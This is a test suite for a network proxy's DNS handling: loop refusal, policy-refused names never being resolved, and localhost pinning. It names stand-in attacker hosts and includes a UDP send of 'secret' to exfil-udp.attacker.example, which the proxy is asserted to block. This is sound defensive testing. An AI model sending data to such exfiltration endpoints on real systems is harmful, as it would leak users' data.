"""What the resolver answers, inside a private network namespace the test
creates (no route off the machine), on every path: HTTP, CONNECT, SOCKS5
TCP and UDP.

Every answer form that names the proxy itself (A, AAAA, IPv4-mapped,
unspecified) is refused as a loop (508 / SOCKS 0x02 / a dropped datagram)
instead of opening a connection into the proxy (issue 11, defect 1).

A name the policy refuses anyway is never looked up: the test resolver
counts zero queries for it on every path (defect 8)."""
import json
import shutil
import socket
import tempfile

import pytest

from conftest import (ORIGIN_V4, NetNS, Proxy, Raw, binary, http_get,
                      network_config, start_origin)
from socks5util import Socks, parse_udp, request, socks_port, udp_header
from test_41_socks5_ns import in_ns

ZONE = {
    "loop-a.test": {"A": ["127.0.0.1"]},
    "loop-aaaa.test": {"AAAA": ["::1"]},
    "loop-mapped.test": {"AAAA": ["::ffff:127.0.0.1"]},
    "loop-mapped-any.test": {"AAAA": ["::ffff:0.0.0.0"]},
    "loop-any4.test": {"A": ["0.0.0.0"]},
    "loop-any6.test": {"AAAA": ["::"]},
    # Names an exfiltrating client would use: resolvable, unlisted.
    "exfil-http.attacker.example": {"A": [ORIGIN_V4]},
    "exfil-connect.attacker.example": {"A": [ORIGIN_V4]},
    "exfil-socks.attacker.example": {"A": [ORIGIN_V4]},
    "exfil-udp.attacker.example": {"A": [ORIGIN_V4]},
    "exfil-check.attacker.example": {"A": [ORIGIN_V4]},
    "denied.test": {"A": [ORIGIN_V4]},
}

# (name, the address the proxy listens on for that form)
LOOP_FORMS = [
    ("loop-a.test", "127.0.0.1"),
    ("loop-aaaa.test", "::1"),
    ("loop-mapped.test", "127.0.0.1"),
    ("loop-mapped-any.test", "127.0.0.1"),
    ("loop-any4.test", "127.0.0.1"),
    ("loop-any6.test", "127.0.0.1"),
]


@pytest.fixture(scope="module")
def ns():
    d = tempfile.mkdtemp(prefix="paddock-ns-")
    n = NetNS(d, ZONE)
    yield n
    n.close()
    shutil.rmtree(d, ignore_errors=True)


def url_host(addr):
    return f"[{addr}]" if ":" in addr else addr


@pytest.fixture
def ns_proxy(ns, workdir):
    started = []

    def start(listen="127.0.0.1", local_binding=True, domains=None,
              limits=()):
        d = tempfile.mkdtemp(dir=workdir)
        h = url_host(listen)
        cfg = network_config(
            domains if domains is not None else {"*.test": "allow"},
            local_binding=local_binding, socks=True,
            proxy_url=f"http://{h}:0",
            extra=f'socks_url = "socks5://{h}:0"\n'
                  "enable_socks5_udp = true\n")
        # A loop that slips through fills the session cap and then
        # waits for the idle timeout: keep both small.
        p = Proxy(d, cfg, enter=ns.enter,
                  limits=["sessions=32", "idle-timeout=3s", *limits])
        p.socks = socks_port(p)
        started.append(p)
        return p
    yield start
    for p in started:
        p.finish()


def socks_connect(p, host, port):
    """A SOCKS5 CONNECT; returns the reply code."""
    c = Socks(p.socks, p.host)
    try:
        code, _, _ = c.connect(host, port)
        return code
    finally:
        c.close()


class Udp:
    """A UDP association from inside the namespace (either family)."""

    def __init__(self, p):
        self.ctl = Socks(p.socks, p.host)
        fam = socket.AF_INET6 if ":" in p.host else socket.AF_INET
        self.sock = socket.socket(fam, socket.SOCK_DGRAM)
        self.sock.bind((p.host, 0))
        self.sock.settimeout(20)
        self.ctl.send(b"\x05\x01\x00" + request(3, "0.0.0.0", 0))
        assert self.ctl.method() == 0
        code, self.relay_host, self.relay_port = self.ctl.reply()
        assert code == 0

    def sendto(self, payload, host, port):
        self.sock.sendto(udp_header(host, port) + payload,
                         (self.relay_host, self.relay_port))

    def recv(self):
        data, _ = self.sock.recvfrom(65536)
        return parse_udp(data)

    def close(self):
        self.sock.close()
        self.ctl.close()


# ---------------------------------------------------------------------------
# Defect 1: loops through every answer form
# ---------------------------------------------------------------------------
@pytest.mark.parametrize("name,listen", LOOP_FORMS)
def test_http_to_a_name_answering_the_proxy_is_508(ns, ns_proxy, name,
                                                   listen):
    p = ns_proxy(listen)
    r = in_ns(ns, lambda: http_get(p, f"http://{name}:{p.port}/"))
    assert r.status == 508, r.body
    assert b"loops back into the proxy" in r.body
    # One session for the client, none for a forwarded copy.
    p.wait_closed(1)
    assert p.count(r"paddock: info: access ") == 1, p.text()


@pytest.mark.parametrize("name,listen", LOOP_FORMS)
def test_connect_to_a_name_answering_the_proxy_is_508(ns, ns_proxy, name,
                                                      listen):
    p = ns_proxy(listen)

    def run():
        c = Raw(p.port, p.host)
        try:
            c.send(f"CONNECT {name}:{p.socks} HTTP/1.1\r\n"
                   f"Host: {name}:{p.socks}\r\n\r\n".encode())
            return c.read_response()
        finally:
            c.close()
    r = in_ns(ns, run)
    assert r.status == 508, r.body
    p.wait_closed(1)
    assert p.count(r"paddock: info: access ") == 1, p.text()


@pytest.mark.parametrize("name,listen", LOOP_FORMS)
def test_socks5_connect_to_a_name_answering_the_proxy_is_0x02(
        ns, ns_proxy, name, listen):
    p = ns_proxy(listen)
    assert in_ns(ns, lambda: socks_connect(p, name, p.port)) == 2
    p.wait_closed(1)
    assert p.count(r"paddock: info: access ") == 1, p.text()


@pytest.mark.parametrize("name,listen", LOOP_FORMS)
def test_socks5_udp_to_a_name_answering_the_relay_is_dropped(
        ns, ns_proxy, name, listen):
    p = ns_proxy(listen)
    a = in_ns(ns, lambda: Udp(p))
    try:
        a.sendto(b"to myself", name, a.relay_port)
        p.wait_for(rf"UDP to '{name}':{a.relay_port} from .*: loop")
        a.sendto(b"to a listener", name, p.port)
        p.wait_for(rf"UDP to '{name}':{p.port} from .*: loop")
    finally:
        a.close()


def test_socks5_udp_replies_name_the_canonical_address(ns, ns_proxy):
    """A mapped answer is sent to, and answered from, the IPv4 address."""
    p = ns_proxy()
    echo = in_ns(ns, lambda: socket.socket(socket.AF_INET,
                                           socket.SOCK_DGRAM))
    in_ns(ns, lambda: echo.bind(("127.0.0.1", 0)))
    echo.settimeout(20)
    port = echo.getsockname()[1]
    a = in_ns(ns, lambda: Udp(p))
    try:
        a.sendto(b"ping", "loop-mapped.test", port)
        data, src = echo.recvfrom(65536)
        assert data == b"ping"
        echo.sendto(b"pong", src)
        assert a.recv() == ("127.0.0.1", port, b"pong")
    finally:
        a.close()
        echo.close()


# ---------------------------------------------------------------------------
# Defect 8: refused names never reach the resolver
# ---------------------------------------------------------------------------
REFUSING = {"*.test": "allow", "denied.test": "deny"}


def connect_status(p, name, port):
    c = Raw(p.port, p.host)
    try:
        c.send(f"CONNECT {name}:{port} HTTP/1.1\r\n"
               f"Host: {name}:{port}\r\n\r\n".encode())
        return c.read_response().status
    finally:
        c.close()


def test_refused_names_are_never_looked_up(ns, ns_proxy):
    p = ns_proxy(local_binding=False, domains=REFUSING)
    r = in_ns(ns, lambda: http_get(
        p, "http://exfil-http.attacker.example/"))
    assert r.status == 403
    assert r.header("x-proxy-error") == "blocked-by-allowlist"
    assert in_ns(ns, lambda: connect_status(
        p, "exfil-connect.attacker.example", 443)) == 403
    assert in_ns(ns, lambda: socks_connect(
        p, "exfil-socks.attacker.example", 80)) == 2
    r = in_ns(ns, lambda: http_get(p, "http://denied.test/"))
    assert r.header("x-proxy-error") == "blocked-by-denylist"
    a = in_ns(ns, lambda: Udp(p))
    try:
        a.sendto(b"secret", "exfil-udp.attacker.example", 53)
        p.wait_for(r"blocked UDP to 'exfil-udp.attacker.example':53 .*: "
                   r"not_allowed \(baseline_policy\)")
    finally:
        a.close()
    # An allowed name is still checked for local addresses, by lookup.
    # The server answers in order, so once this query shows, any query
    # for the names above would have shown before it.
    r = in_ns(ns, lambda: http_get(p, "http://loop-a.test/"))
    assert r.status == 403
    assert b"not_allowed_local" in r.body, r.body
    ns.dns.wait_for(r"dns: query loop-a\.test ")
    for name in ("exfil-http.attacker.example",
                 "exfil-connect.attacker.example",
                 "exfil-socks.attacker.example",
                 "exfil-udp.attacker.example", "denied.test"):
        assert ns.dns_queries(name) == 0, (name, ns.dns.text())


def test_policy_check_does_not_look_up_a_refused_name(ns, workdir):
    cfg = network_config(REFUSING, local_binding=False)
    path = f"{workdir}/config.toml"
    with open(path, "w") as f:
        f.write(cfg)
    r = ns.run(binary("paddock"), "policy", "check", "--config", path,
               "--system-config", "", "--home", workdir, "--cwd", workdir,
               "--json", "--protocol", "http",
               "exfil-check.attacker.example", check=False)
    assert r.returncode == 1, r.stderr
    assert json.loads(r.stdout)["reason"] == "not_allowed", r.stdout
    # An allowed name is looked up; its query shows after any earlier one.
    r = ns.run(binary("paddock"), "policy", "check", "--config", path,
               "--system-config", "", "--home", workdir, "--cwd", workdir,
               "--json", "--protocol", "http", "loop-any4.test",
               check=False)
    assert json.loads(r.stdout)["reason"] == "not_allowed_local", r.stdout
    ns.dns.wait_for(r"dns: query loop-any4\.test ")
    assert ns.dns_queries("exfil-check.attacker.example") == 0


# ---------------------------------------------------------------------------
# An unresolvable name: the reason stays, the words say what happened
# ---------------------------------------------------------------------------
UNRESOLVED = "The name did not resolve; unresolvable names are refused."


def test_an_unresolvable_name_is_refused_and_says_why(ns, ns_proxy, workdir):
    p = ns_proxy(local_binding=False, domains=REFUSING)
    r = in_ns(ns, lambda: http_get(p, "http://nxdomain.test/"))
    assert r.status == 403
    doc = r.json()
    assert doc["reason"] == "not_allowed_local"
    assert doc["message"] == UNRESOLVED
    event = p.audit(1)[0]
    assert event["network.policy.reason"] == "not_allowed_local"
    assert event["network.policy.message"] == UNRESOLVED
    # A name that resolves to a local address keeps the local message.
    r = in_ns(ns, lambda: http_get(p, "http://loop-a.test/"))
    assert r.json()["message"] != UNRESOLVED
    assert "Local" in r.json()["message"]
    r = ns.run(binary("paddock"), "policy", "check", "--config",
               p.config_path, "--system-config", "", "--home", workdir,
               "--cwd", workdir, "--protocol", "http", "nxdomain.test",
               check=False)
    assert r.returncode == 1
    assert f"reason: not_allowed_local: {UNRESOLVED}".encode() in r.stdout


# ---------------------------------------------------------------------------
# Defect 4: localhost is loopback, never a DNS answer (RFC 6761 §6.3)
# ---------------------------------------------------------------------------
PRIVATE = "10.9.9.9"
HOSTILE_ZONE = {
    "localhost": {"A": [PRIVATE]},
    "app.localhost": {"A": [PRIVATE]},
}


@pytest.fixture(scope="module")
def ns_nolocal():
    """A namespace whose /etc/hosts has no localhost line and whose
    resolver answers a private address for localhost."""
    d = tempfile.mkdtemp(prefix="paddock-ns-")
    n = NetNS(d, HOSTILE_ZONE, localhost=False)
    n.run("ip", "addr", "add", f"{PRIVATE}/32", "dev", "lo")
    n.origins = [start_origin(n.enter, bind=PRIVATE, port=8080),
                 start_origin(n.enter, bind="127.0.0.1", port=8080)]
    yield n
    for o in n.origins:
        o.stop()
    n.close()
    shutil.rmtree(d, ignore_errors=True)


@pytest.mark.parametrize("name", ["localhost", "app.localhost"])
def test_localhost_dials_loopback_only(ns_nolocal, workdir, name):
    ns = ns_nolocal
    d = tempfile.mkdtemp(dir=workdir)
    cfg = network_config({name: "allow"}, local_binding=False, socks=True,
                         extra='socks_url = "socks5://127.0.0.1:0"\n')
    p = Proxy(d, cfg, enter=ns.enter)
    try:
        p.socks = socks_port(p)
        r = in_ns(ns, lambda: http_get(p, f"http://{name}:8080/peer"))
        assert r.status == 200, r.body
        assert r.body.startswith(b"127.0.0.1:"), r.body

        def tunnel():
            c = Socks(p.socks, p.host)
            try:
                code, _, _ = c.connect(name, 8080)
                assert code == 0
                c.send(f"GET /peer HTTP/1.1\r\nHost: {name}\r\n"
                       "Connection: close\r\n\r\n".encode())
                return c.read_response()
            finally:
                c.close()
        r = in_ns(ns, tunnel)
        assert r.body.startswith(b"127.0.0.1:"), r.body
        assert ns.dns_queries(name) == 0, ns.dns.text()
    finally:
        p.finish()
